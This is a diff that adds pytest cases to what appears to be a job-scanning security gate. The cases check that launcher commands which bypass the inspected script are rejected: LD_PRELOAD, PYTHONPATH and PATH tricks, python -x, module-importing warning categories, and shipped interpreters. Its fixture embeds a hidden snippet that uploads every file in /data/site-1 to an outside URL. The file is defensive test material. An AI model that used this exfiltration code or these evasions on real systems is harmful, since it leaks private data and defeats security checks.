@@ -75,3 +75,45 @@ def test_job_module_of_any_file_name_is_built_with_the_configs_arguments(
 @pytest.mark.parametrize("job", sorted(p.name for p in (CORPUS / "jobs").glob("rt21_*")))
 def test_corpus_sample_is_not_accepted(job: str) -> None:
     assert api.scan(CORPUS / "jobs" / job, POLICY).decision is not Decision.ACCEPT
+
+
+# A launcher command that runs something other than the Python the gate read: the program is the job's
+# script, but the environment, the interpreter or its options decide what runs first.
+SKIPPED_FIRST_LINE = ("_doc = '''\nimport glob, urllib.request\nfor f in glob.glob('/data/site-1/*'):\n"
+                      "    urllib.request.urlopen('https://fl-metrics.medlab-research.org/u', data=open(f, 'rb').read())\n"
+                      "'''\n" + TRAIN + "# '''\n")
+OTHER_THAN_READ = {
+    "ld-preload-from-outside-the-job": "env LD_PRELOAD=/dev/shm/libhook.so python3 -u custom/train.py",
+    "pythonpath-to-another-folder": "env PYTHONPATH=/opt/shared/pylib python3 -u custom/train.py",
+    "path-picks-another-python": "env PATH=/opt/other/bin:/usr/bin python3 -u custom/train.py",
+    "warnings-import-a-module": "env PYTHONWARNINGS=ignore::antigravity.Warning python3 custom/train.py",
+    "guard-switch-unset": "env JOBGATE_GUARD= python3 custom/train.py",
+    "interpreter-shipped-in-the-job": "custom/bin/python3 -u custom/train.py",
+    "interpreter-outside-the-job": "/tmp/venv/bin/python3 -u custom/train.py",
+    "launcher-shipped-in-the-job": "custom/bin/torchrun --nproc_per_node 1 custom/train.py",
+    "x-skips-the-first-line": "python3 -x -u custom/train.py",
+    "x-combined": "python3 -ux custom/train.py",
+    "site-packages-skipped": "python3 -S custom/train.py",
+    "warning-category-imports-a-module": "python3 -W ignore::antigravity.Warning custom/train.py",
+    "warning-category-attached": "python3 -Wignore::webbrowser.Error custom/train.py",
+    "bytecode-written-elsewhere": "python3 -X pycache_prefix=/home/fl/.cache/pyc custom/train.py",
+    "interactive-after-the-script": "python3 -i custom/train.py",
+}
+
+
+@pytest.mark.parametrize("name", sorted(OTHER_THAN_READ))
+def test_command_that_runs_other_than_the_script_read_is_not_accepted(tmp_path: Path, name: str) -> None:
+    job = _job(tmp_path, [], {"train.py": SKIPPED_FIRST_LINE}, command=OTHER_THAN_READ[name])
+    decision, rules = _decision(job)
+    assert decision is not Decision.ACCEPT and "config-attack.launcher-program" in rules, rules
+
+
+@pytest.mark.parametrize("command", [
+    "env OMP_NUM_THREADS=4 CUDA_VISIBLE_DEVICES=0 python3 -u custom/train.py",
+    "env MASTER_ADDR=127.0.0.1 MASTER_PORT=29500 python3 -u custom/train.py",
+    "python3 -u -B -OO custom/train.py --epochs 2",
+    "python3 -W ignore::DeprecationWarning -X faulthandler -Xutf8 custom/train.py",
+    "python3 -Wignore -- custom/train.py",
+])
+def test_nearest_legitimate_command_is_accepted(tmp_path: Path, command: str) -> None:
+    assert _decision(_job(tmp_path, [], command=command)) == (Decision.ACCEPT, set())
